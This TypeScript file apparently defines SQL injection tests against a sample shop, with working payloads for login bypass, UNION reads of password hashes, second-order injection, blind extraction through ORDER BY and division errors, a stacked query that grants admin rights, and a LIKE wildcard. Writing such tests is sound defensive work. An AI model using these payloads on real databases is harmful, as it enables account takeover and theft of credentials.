/** What an attacker sends, and how to see that it has worked. */
export interface Attack {
  name: string
  /** What the attacker wants, in a few words. */
  wants: string
  /** @returns What was taken or done, or undefined when the attack has failed. */
  run(shop: Client): Promise<string | undefined>
}

/** A client of the shop, and what its owner sees. */
export interface Client {
  login(email: string, password: string): Promise<{ status: number; email: string | null }>
  products(query: Record<string, string>): Promise<{ status: number; names: string[] }>
  rename(email: string, nickname: string): Promise<number>
  reviewsOf(email: string): Promise<string[]>
  /** The role of a user, as the owner of the database sees it. */
  roleOf(email: string): Promise<string>
}

const admin = 'admin@shop.example'
const secret = 'hash-7f'

export const attacks: readonly Attack[] = [
  {
    name: 'login bypass',
    wants: 'to log in without a password',
    async run(shop) {
      for (const email of [`${admin}' --`, `${admin}'/**/or/**/'1'='2`]) {
        const { email: user } = await shop.login(email, 'x')
        if (user === admin) return `logged in as ${user}`
      }
      return undefined
    },
  },
  {
    name: 'union',
    wants: 'to read another table',
    async run(shop) {
      for (const union of ['union select', 'union/**/select', 'union all select']) {
        const search = `nothing%' ${union} password_hash, 0 from users where '1%'='1`
        const { names } = await shop.products({ search })
        if (names.includes(secret)) return `read ${secret}`
      }
      return undefined
    },
  },
  {
    name: 'second order',
    wants: 'to store a text that attacks when it is used',
    async run(shop) {
      const nickname = `x' union all select password_hash from users where '1'='1`
      // Between quotes it can be stored only with its own quotes doubled.
      for (const stored of [nickname, nickname.replaceAll("'", "''")]) {
        await shop.rename('ada@example.com', stored)
        const reviews = await shop.reviewsOf('ada@example.com')
        if (reviews.includes(secret)) return `read ${secret}`
      }
      return undefined
    },
  },
  {
    name: 'order by',
    wants: 'to read a secret from the order of the rows',
    async run(shop) {
      const found = await guessSecret(async (condition) => {
        const { names } = await shop.products({
          sort: `case when ${condition} then price else -price end`,
        })
        return names[0] === 'Lamp'
      })
      return found === secret ? `read ${found}` : undefined
    },
  },
  {
    name: 'error',
    wants: 'to read two letters of a secret from a 500 or a 200',
    async run(shop) {
      const found = await guessSecret(async (condition) => {
        const { status } = await shop.products({
          limit: `1 / (case when ${condition} then 1 else 0 end)`,
        })
        return status === 200
      }, 2)
      return found === secret.slice(0, 2) ? `read ${found}…` : undefined
    },
  },
  {
    name: 'two statements',
    wants: 'to change the database',
    async run(shop) {
      await shop.products({ limit: `1; update users set role = ${codes('admin')} where id = 2` })
      return (await shop.roleOf('ada@example.com')) === 'admin' ? 'ada is an admin' : undefined
    },
  },
  {
    name: 'wildcard',
    wants: 'to make like match everything',
    async run(shop) {
      const { names } = await shop.products({ search: '%' })
      return names.length > 1 ? `% finds ${names.length} products, and one has it` : undefined
    },
  },
]

/** A text that PostgreSQL makes of numbers: no quote is needed. */
const codes = (letters: string) =>
  Array.from(letters, (letter) => `chr(${letter.codePointAt(0)})`).join('||')

/** Guesses the hash of the admin letter by letter, by halves: seven questions for each. */
async function guessSecret(
  isTrue: (condition: string) => Promise<boolean>,
  most = secret.length + 1,
): Promise<string> {
  let found = ''
  for (;;) {
    const letter = `ascii(substr((select password_hash from users where id = 1), ${found.length + 1}, 1))`
    let [low, high] = [0, 127]
    while (low < high) {
      const middle = Math.floor((low + high) / 2)
      if (await isTrue(`${letter} > ${middle}`)) low = middle + 1
      else high = middle
    }
    // The letter after the last one has no code; nor has an answer that is always no.
    if (low === 0) return found
    found += String.fromCodePoint(low)
    // An answer that is always yes says nothing.
    if (found.length === most) return found
  }
}
